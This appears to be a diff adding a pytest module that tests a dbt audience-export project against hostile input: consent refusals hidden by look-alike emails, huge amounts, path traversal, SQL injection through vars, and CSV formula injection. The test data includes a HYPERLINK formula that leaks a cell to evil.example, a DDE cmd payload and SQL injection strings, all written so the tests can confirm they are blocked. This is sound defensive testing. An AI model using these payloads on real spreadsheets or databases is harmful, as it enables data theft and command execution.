@@ -1,0 +1,190 @@
+"""Hostile and careless input (issue 14): a refusal of marketing always wins, no var or cell reaches SQL or a
+spreadsheet unchecked, no amount stops a build, and every script answers a bad option or file with one
+`error:` line and exit 2, changing nothing.
+
+One small workspace (a few demo customers plus hostile ones) is built once per module and reused; tests
+that must change data work on clones. Property tests are derandomised and run few examples, so CI stays fast.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import subprocess
+import sys
+from collections import Counter
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import duckdb
+import pytest
+import yaml
+from conftest import PROJECT_DIR, SEEDS_DIR, TODAY, Workspace, generate_demo
+from engines import ENGINES, engine_workspace
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from oracle import CUSTOMER_COLUMNS, ORDER_COLUMNS, Row, expected_rejects, normalise_email, parse_bool
+
+SCRIPTS = PROJECT_DIR / "scripts"
+PROPERTY = settings(max_examples=4, deadline=None, derandomize=True,
+                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
+            "-2+3", "\tx", "\rx")
+# Reproductions of the issue: refusals written with look-alike addresses or on rejected records.
+HOSTILE_CUSTOMERS: list[Row] = [
+    {"customer_id": "N1", "email": "nbsp@x.com\u00a0", "accepts_marketing": "yes"},
+    {"customer_id": "N2", "email": "nbsp@x.com", "accepts_marketing": "no"},
+    {"customer_id": "P1", "email": "priv1@x.com", "created_at": "not-a-date", "accepts_marketing": "no"},
+    {"customer_id": "P2", "email": "priv1@x.com", "accepts_marketing": "yes"},
+    {"customer_id": "D1", "email": "dup@x.com", "first_name": "A", "accepts_marketing": "no"},
+    {"customer_id": "D1", "email": "dup@x.com", "first_name": "B", "accepts_marketing": "no"},
+    {"customer_id": "D2", "email": "DUP@x.com", "accepts_marketing": "yes"},
+    {"customer_id": "W1", "email": "ｗｉｄｅ＠x.com", "accepts_marketing": "false"},
+    {"customer_id": "W2", "email": "Wide@X.com\u3000", "accepts_marketing": "true"},
+    *({"customer_id": f"F{i}", "email": f"f{i}@x.com", "first_name": name, "accepts_marketing": "yes"}
+      for i, name in enumerate(FORMULAS)),
+    {"customer_id": "F9", "email": "@sum(1+1)@x.com", "accepts_marketing": "yes"},
+]
+HOSTILE_ORDERS: list[Row] = [
+    {"order_id": f"H{i}", "customer_id": row["customer_id"], "ordered_at": "2026-06-01", "order_total": "10"}
+    for i, row in enumerate(HOSTILE_CUSTOMERS)
+] + [
+    {"order_id": "BIG1", "customer_id": "N1", "ordered_at": "2026-06-01", "order_total": "12345678901"},
+    {"order_id": "BIG2", "customer_id": "N1", "ordered_at": "2026-06-01", "order_total": "999999999999.99"},
+]
+
+
+def read_csv(path: Path) -> list[Row]:
+    with path.open(newline="", encoding="utf-8") as fh:
+        return list(csv.DictReader(fh))
+
+
+def write_csv(path: Path, rows: list[Row], columns: tuple[str, ...]) -> Path:
+    with path.open("w", newline="", encoding="utf-8") as fh:
+        writer = csv.writer(fh)
+        writer.writerow(columns)
+        writer.writerows([["" if row.get(c) is None else row[c] for c in columns] for row in rows])
+    return path
+
+
+def fingerprint(ws: Workspace) -> dict[str, tuple]:
+    """Every table and view of the workspace with its row count and an order-free hash of its rows."""
+    with duckdb.connect(str(ws.db_path), read_only=True) as con:
+        tables = con.execute("select schema_name, table_name from duckdb_tables() where database_name = 'rfm'"
+                             " order by all").fetchall()
+        return {f"{s}.{t}": con.execute(f'select count(*), bit_xor(hash(r)) from "{s}"."{t}" as r').fetchone()
+                for s, t in tables}
+
+
+def refused(customers: list[Row]) -> set[str]:
+    """Addresses some raw record refused, by the oracle's normalisation (docs/rules.md section 4)."""
+    return {normalise_email(r.get("email")) for r in customers
+            if parse_bool((r.get("accepts_marketing") or "").strip() or None) is False} - {None}
+
+
+@pytest.fixture(scope="module")
+def built(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
+    """A few demo customers and the hostile ones, loaded and built once."""
+    root = tmp_path_factory.mktemp("hostile")
+    demo = generate_demo(root / "demo", "--customers", "60")
+    ws = Workspace(root / "ws")
+    ws.load(write_csv(root / "orders.csv", read_csv(demo.orders) + HOSTILE_ORDERS, ORDER_COLUMNS),
+            write_csv(root / "customers.csv", read_csv(demo.customers) + HOSTILE_CUSTOMERS, CUSTOMER_COLUMNS))
+    ws.dbt("build", vars={"rfm_unknown_status_severity": "warn"})
+    return ws
+
+
+def run_script(name: str, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([sys.executable, str(SCRIPTS / name), *args], cwd=PROJECT_DIR, env=env,
+                          capture_output=True, text=True, timeout=300)
+
+
+def assert_user_error(proc: subprocess.CompletedProcess[str], *words: str) -> None:
+    """Exit 2, no traceback, and exactly one `error:` line on stderr, holding `words`."""
+    errors = [line for line in proc.stderr.splitlines() if line.startswith("error:")]
+    assert proc.returncode == 2 and "Traceback" not in proc.stderr and len(errors) == 1, (proc.returncode, proc.stderr)
+    assert all(word in errors[0] for word in words), errors[0]
+
+
+# ---------------------------------------------------------------------------------------- consent (§4)
+
+
+def test_a_refusal_on_any_record_keeps_the_address_out_of_audiences_and_exports(built: Workspace, tmp_path: Path) -> None:
+    members = {row[0] for row in built.query("select distinct email from main.audience_members")}
+    assert not members & refused(HOSTILE_CUSTOMERS), members & refused(HOSTILE_CUSTOMERS)
+    assert {"nbsp@x.com", "priv1@x.com", "dup@x.com", "wide@x.com"} <= refused(HOSTILE_CUSTOMERS)
+    consent = dict(built.query("select customer_id, accepts_marketing from main.int_customers_deduplicated"
+                               " where customer_id in ('N1', 'N2', 'P2', 'D2', 'W1', 'W2')"))
+    assert set(consent.values()) == {False}, consent  # merged (N, W) or not (P2, D2): refused either way
+
+    proc = run_script("export_audiences.py", "--segmentation", "lifecycle", "--out", str(tmp_path),
+                      "--export-date", "2026-11-25", env=built.env)
+    assert proc.returncode == 0, proc.stderr
+    folder = tmp_path / "lifecycle"
+    exported = {row["email"].lstrip("'") for f in folder.glob("*.csv") for row in read_csv(f)}
+    assert exported and not exported & refused(HOSTILE_CUSTOMERS)
+    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
+    assert "never exported" in manifest["rules"]["consent"]
+
+
+def test_export_cells_never_start_a_formula(built: Workspace, tmp_path: Path) -> None:
+    proc = run_script("export_audiences.py", "--segmentation", "lifecycle", "--out", str(tmp_path),
+                      "--export-date", "2026-11-25", env=built.env)
+    assert proc.returncode == 0, proc.stderr
+    cells = [cell for f in (tmp_path / "lifecycle").glob("*.csv") for row in read_csv(f) for cell in row.values()]
+    assert "'" + FORMULAS[0] in cells and "'@sum(1+1)@x.com" in cells  # kept, but shown as text
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_export_writes_only_under_its_folder_and_checks_the_manifest(built: Workspace, tmp_path: Path) -> None:
+    out = tmp_path / "a" / "b" / "c"
+    (out / "lifecycle").mkdir(parents=True)
+    manifest = {"export_date": "2026-01-01", "segments": {"../../../evil": {"rows": 1}}}
+    (out / "lifecycle" / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
+    args = ("--segmentation", "lifecycle", "--out", str(out), "--replace", "--export-date", "2026-11-25")
+    assert_user_error(run_script("export_audiences.py", *args, env=built.env), "../../../evil")
+    assert not list(tmp_path.rglob("evil*"))
+    for bad in ({"export_date": "2026-01-01", "segments": {"lost": {"rows": "abc"}}}, [], {"segments": {}}):
+        (out / "lifecycle" / "manifest.json").write_text(json.dumps(bad), encoding="utf-8")
+        assert_user_error(run_script("export_audiences.py", *args, env=built.env), "manifest")
+
+
+# ---------------------------------------------------------------------------------------- amounts (§3)
+
+
+def test_huge_amounts_are_rejected_as_absurd_not_a_build_error(built: Workspace) -> None:
+    reasons = dict(built.query("select raw_key, rejection_reason from main.data_quality_rejects where source = 'orders'"
+                               " and raw_key in ('BIG1', 'BIG2')"))
+    assert reasons == {"BIG1": "absurd_order_total", "BIG2": "absurd_order_total"}
+
+
+# ------------------------------------------------------------------------------------------ vars and SQL
+
+
+def project_vars() -> dict[str, object]:
+    return yaml.safe_load((PROJECT_DIR / "dbt_project.yml").read_text(encoding="utf-8"))["vars"]
+
+
+HOSTILE_VAR = "raw\"; create table main.injected as select 42 as pwned; --'"
+
+
+def test_sql_injection_through_the_raw_schema_var(built: Workspace) -> None:
+    before = fingerprint(built)
+    payload = ('raw"."orders" ) select * from source ); create table main.injected as select 42 as pwned; '
+               'create view main.injected_v as ( with source as ( select * from "v"."raw')
+    proc = built.dbt("run", "--select", "stg_raw__orders", vars={"rfm_raw_schema": payload}, expect_ok=False)
+    assert proc.returncode != 0 and "var rfm_raw_schema must be a schema name" in proc.stdout, proc.stdout[-2000:]
+    assert fingerprint(built) == before
+
+
+@pytest.mark.parametrize("name", list(project_vars()))
+def test_a_hostile_value_of_every_var_is_one_line_and_changes_nothing(built: Workspace, name: str) -> None:
+    """Every var of dbt_project.yml (new ones included, automatically): `dbt build` stops before any node
+    runs, with one line naming the var."""
+    before = fingerprint(built)
+    proc = built.dbt("build", vars={name: HOSTILE_VAR}, expect_ok=False)
+    lines = [line for line in proc.stdout.splitlines() if f"var {name} " in line]
+    assert proc.returncode != 0 and len(lines) == 1, proc.stdout[-3000:]
+    assert "Traceback" not in proc.stdout + proc.stderr
+    assert fingerprint(built) == before, f"var {name}: the database changed"
